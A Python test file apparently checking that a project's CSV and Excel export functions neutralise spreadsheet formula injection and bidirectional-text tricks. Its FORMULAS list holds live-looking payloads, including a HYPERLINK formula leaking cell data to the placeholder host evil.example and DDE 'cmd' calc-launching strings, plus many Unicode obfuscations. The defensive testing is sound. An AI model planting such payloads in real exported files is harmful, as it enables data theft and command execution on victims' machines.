import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from foundation.settings import PROJECT_ROOT
from foundation.table_files import plain_cell, write_csv, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm xem")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b\ufeff=1+1",
    "\u3164=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＠SUM(1)",
    "thôn;=1+1",  # another separator begins a new cell
    "thôn, =1+1",
    "thôn\n=1+1",
    "thôn|\u200b-1+1",
]


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take any part of a cell for a formula, as cells are cut by , ; | and line breaks."""
    for part in cell.replace(";", ",").replace("|", ",").replace("\n", ",").split(","):
        seen = [each for each in part if not each.isspace() and unicodedata.category(each) not in {"Cc", "Cf"}]
        seen = [each for each in seen if each != "\u3164"]
        if seen and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@":
            return True
    return False


@pytest.mark.parametrize("planted", FORMULAS)
def test_no_cell_is_a_formula_in_either_file(planted):
    [[_, from_csv]] = csv.reader(io.StringIO(write_csv([["x", planted]]).removeprefix("\ufeff")))
    book = load_workbook(io.BytesIO(write_xlsx([("Tờ", [["x", planted]])])))
    cell = book.active["B1"]

    assert runs(planted)
    assert not runs(from_csv)
    assert cell.data_type == "s"
    assert cell.value == from_csv


@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=20))
def test_any_text_is_harmless_and_readable(text):
    shown = plain_cell(text)
    [[_, from_csv]] = csv.reader(io.StringIO(write_csv([["x", text]]).removeprefix("\ufeff"), newline=""))

    assert not runs(shown)
    assert from_csv == shown
    shown.encode()
    assert not any(unicodedata.category(each) in {"Cc", "Cs"} and each != "\n" for each in shown)


def test_numbers_stay_numbers_and_nothing_stays_empty():
    rows = [[-5, 3.25, 0, None, True, "-5", "12"]]
    [read] = csv.reader(io.StringIO(write_csv(rows).removeprefix("\ufeff")))
    sheet = load_workbook(io.BytesIO(write_xlsx([("Tờ", rows)]))).active

    assert read == ["-5", "3.25", "0", "", "1", "'-5", "12"]
    assert [cell.value for cell in sheet[1]] == [-5, 3.25, 0, None, 1, "'-5", "12"]
    assert [cell.data_type for cell in sheet[1]][-2:] == ["s", "s"]


@pytest.mark.parametrize("error", ["#N/A", "#REF!", "#DIV/0!"])
def test_words_that_name_an_error_are_words(error):
    cell = load_workbook(io.BytesIO(write_xlsx([("Tờ", [[error]])]))).active["A1"]

    assert (cell.data_type, cell.value) == ("s", error)


def test_marks_that_turn_the_order_of_letters_are_left_out():
    assert plain_cell("Cán bộ \u202eGPJ.exe\u2066") == "Cán bộ GPJ.exe"
    assert plain_cell("Bản Mẫu 1 (Nam Sơn) – khu A") == "Bản Mẫu 1 (Nam Sơn) – khu A"


def test_a_sheet_may_be_called_anything():
    book = load_workbook(io.BytesIO(write_xlsx([("=Tổng: [a]/b?\n" + "x" * 40, [["1"]])])))

    assert len(book.sheetnames[0]) <= 31


def test_nothing_else_writes_tables():
    """A cell written past plain_cell would be a formula again."""
    other = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|XlsxWriter|xlsxwriter|\.to_csv\(")
    packages = ("foundation", "translations", "courses", "learning", "community_teams")
    found = {
        str(file.relative_to(PROJECT_ROOT))
        for package in packages
        for file in (PROJECT_ROOT / package).rglob("*.py")
        if other.search(file.read_text(encoding="utf-8"))
    }

    assert found == {"foundation/table_files.py"}
